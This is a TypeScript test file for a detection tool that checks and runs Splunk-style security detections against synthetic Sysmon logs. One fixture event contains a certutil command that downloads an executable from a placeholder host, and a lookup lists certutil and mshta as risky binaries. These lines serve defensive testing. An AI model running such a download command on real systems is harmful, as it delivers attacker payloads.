/**
 * A security_content-shaped tree (detections/, macros/, stories/, lookups/ with a CSV), written
 * here: `vigil rules check` reports every detection as runnable or names what stops it, with the
 * file line; `vigil hunt` runs the runnable ones, lookups included, beside the others' reports.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { makeRulesCommand } from '../../src/cli/commands/rules-check.js';
import { makeHuntCommand } from '../../src/cli/commands/hunt.js';

let root = '';
let logs = '';

function detection(name: string, id: string, search: string, type = 'TTP'): string {
  return [
    `name: ${name}`,
    `id: ${id}`,
    'version: 1',
    "date: '2026-12-01'",
    'author: Vigil tests',
    'status: production',
    `type: ${type}`,
    'description: A test detection.',
    'data_source: []',
    'search: |-',
    ...search.split('\n').map((l) => `  ${l}`),
    'how_to_implement: Nothing to do.',
    'known_false_positives: None known.',
    'references: []',
    'tags:',
    '  analytic_story:',
    '  - Test Story',
    '  asset_type: Endpoint',
    '  confidence: 80',
    '  impact: 50',
    "  message: 'Tool $process_name$ on $dest$'",
    '  mitre_attack_id:',
    '  - T1059',
    '  observable:',
    '  - name: dest',
    '    type: Hostname',
    '    role:',
    '    - Victim',
    '  product:',
    '  - Splunk Enterprise',
    '  security_domain: endpoint',
    'tests: []',
    '',
  ].join('\n');
}

const SYSMON_1 = (time: string, record: number, image: string, commandLine: string): string =>
  `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='${time}'/><EventRecordID>${record}</EventRecordID><Correlation/><Execution ProcessID='2448' ThreadID='3709'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-01.corp.example.com</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='ProcessId'>${record}</Data><Data Name='Image'>${image}</Data><Data Name='OriginalFileName'>${path.win32.basename(image)}</Data><Data Name='CommandLine'>${commandLine}</Data><Data Name='User'>CORP\\bob</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='ParentCommandLine'>explorer.exe</Data></EventData></Event>`;

before(async () => {
  root = await mkdtemp(path.join(tmpdir(), 'vigil-content-'));
  for (const d of ['detections/endpoint', 'macros', 'stories', 'lookups', 'logs']) await mkdir(path.join(root, d), { recursive: true });
  await writeFile(
    path.join(root, 'detections/endpoint/lolbin_from_lookup.yml'),
    detection(
      'Lolbin From Lookup',
      '11111111-1111-4111-8111-111111111111',
      '| tstats `security_content_summariesonly` count from datamodel=Endpoint.Processes by Processes.dest Processes.process_name\n| `drop_dm_object_name(Processes)`\n| lookup lolbins process_name OUTPUT risky\n| search risky=true\n| `lolbin_from_lookup_filter`',
    ),
  );
  await writeFile(
    path.join(root, 'detections/endpoint/grouped_sessions.yml'),
    detection('Grouped Sessions', '22222222-2222-4222-8222-222222222222', '`sysmon` EventCode=1\n| transaction dest maxspan=5m\n| `grouped_sessions_filter`'),
  );
  await writeFile(
    path.join(root, 'detections/endpoint/made_up_function.yml'),
    detection('Made Up Function', '33333333-3333-4333-8333-333333333333', '`sysmon` EventCode=1\n| eval x=frobnicate(process_name)\n| `made_up_function_filter`'),
  );
  await writeFile(
    path.join(root, 'detections/endpoint/missing_macro.yml'),
    detection('Missing Macro', '44444444-4444-4444-8444-444444444444', '`no_such_source` EventCode=1\n| stats count by dest\n| `missing_macro_filter`'),
  );
  await writeFile(path.join(root, 'macros/sysmon.yml'), 'name: sysmon\ndefinition: (source="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational")\ndescription: Sysmon events.\n');
  await writeFile(path.join(root, 'macros/security_content_summariesonly.yml'), 'name: security_content_summariesonly\ndefinition: summariesonly=false allow_old_summaries=true fillnull_value=null\ndescription: tstats options.\n');
  await writeFile(path.join(root, 'stories/test_story.yml'), "name: Test Story\nid: 55555555-5555-4555-8555-555555555555\nversion: 1\ndate: '2026-12-01'\nauthor: Vigil tests\ndescription: A story.\nnarrative: A narrative.\nreferences: []\ntags:\n  category:\n  - Adversary Tactics\n  product:\n  - Splunk Enterprise\n  usecase: Advanced Threat Detection\n");
  await writeFile(path.join(root, 'lookups/lolbins.yml'), "name: lolbins\ndescription: Binaries worth a look.\nfilename: lolbins.csv\ncase_sensitive_match: 'false'\nmin_matches: 1\ndefault_match: 'false'\n");
  await writeFile(path.join(root, 'lookups/lolbins.csv'), 'process_name,risky\ncertutil.exe,true\nmshta.exe,true\n');
  logs = path.join(root, 'logs', 'sysmon.xml');
  await writeFile(
    logs,
    [
      SYSMON_1('2024-05-14T09:00:00.000000000Z', 101, 'C:\\Windows\\System32\\CertUtil.exe', 'certutil -urlcache -f http://x/a.exe a.exe'),
      SYSMON_1('2024-05-14T09:01:00.000000000Z', 102, 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe'),
    ].join('\n') + '\n',
  );
});

after(async () => {
  await rm(root, { recursive: true, force: true });
});

interface CheckJson {
  detections: { status: string; name: string; file: string; line: number; problems: { code: string; message: string; line: number | null; column: number | null }[] }[];
}

test('rules check: each detection runs, or the command, function or macro that stops it is named with its line', async () => {
  let stdout = '';
  const code = await makeRulesCommand({ stdout: (t) => (stdout += t), stderr: () => undefined }).run(['check', root, '--format', 'json']);
  assert.equal(code, 0);
  const doc = JSON.parse(stdout) as CheckJson;
  const by = new Map(doc.detections.map((d) => [d.name, d]));
  assert.equal(by.size, 4);
  assert.equal(by.get('Lolbin From Lookup')!.status, 'runs');
  const transaction = by.get('Grouped Sessions')!;
  assert.equal(transaction.status, 'not-runnable');
  assert.equal(transaction.problems[0]!.code, 'spl.unsupported-command');
  assert.match(transaction.problems[0]!.message, /'transaction'/);
  // search: is line 10 of the file; `| transaction` is the search's second line.
  assert.equal(transaction.problems[0]!.line, 12);
  const fn = by.get('Made Up Function')!;
  assert.equal(fn.status, 'not-runnable');
  assert.equal(fn.problems[0]!.code, 'spl.unsupported-function');
  assert.match(fn.problems[0]!.message, /frobnicate/);
  assert.equal(fn.problems[0]!.line, 12);
  const macro = by.get('Missing Macro')!;
  assert.equal(macro.status, 'not-runnable');
  assert.match(macro.problems[0]!.message, /no_such_source/);
  assert.equal(macro.problems[0]!.line, 11);
});

test('rules check table: a totals line for the detections', async () => {
  let stdout = '';
  await makeRulesCommand({ stdout: (t) => (stdout += t), stderr: () => undefined }).run(['check', root]);
  assert.match(stdout, /total: 4 Splunk-style detections: 1 run, 3 not runnable/);
  assert.match(stdout, /not-runnable +spl .*Grouped Sessions/);
});

test('hunt: the runnable detection runs with its lookup; the others are reported, not dropped', async () => {
  let stderr = '';
  const out = path.join(root, 'out.jsonl');
  const code = await makeHuntCommand({ stderr: (t) => (stderr += t) }).run([logs, '--detections', root, '--format', 'jsonl', '--threads', '1', '--output', out]);
  assert.equal(code, 0, stderr);
  const records = (await readFile(out, 'utf8')).split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as { kind: string; row?: Record<string, unknown>; risk_score?: number });
  const rows = records.filter((r) => r.kind === 'detection');
  // The lookup matches case-insensitively (case_sensitive_match false): CertUtil.exe is risky, notepad is not.
  assert.deepEqual(rows.map((r) => [r.row!['process_name'], r.row!['risky'], r.row!['dest']]), [['CertUtil.exe', 'true', 'WS-01.corp.example.com']]);
  // TTP with impact 50 × confidence 80 / 100 = 40 for dest.
  assert.deepEqual(records.filter((r) => r.kind === 'risk').map((r) => r.risk_score), [40]);
  assert.equal(records.filter((r) => r.kind === 'notable').length, 1);
  for (const name of ['Grouped Sessions', 'Made Up Function', 'Missing Macro']) assert.match(stderr, new RegExp(`not runnable: '${name}'`));
  assert.match(stderr, /detections: 4 \(1 run, 3 not runnable\)/);
});
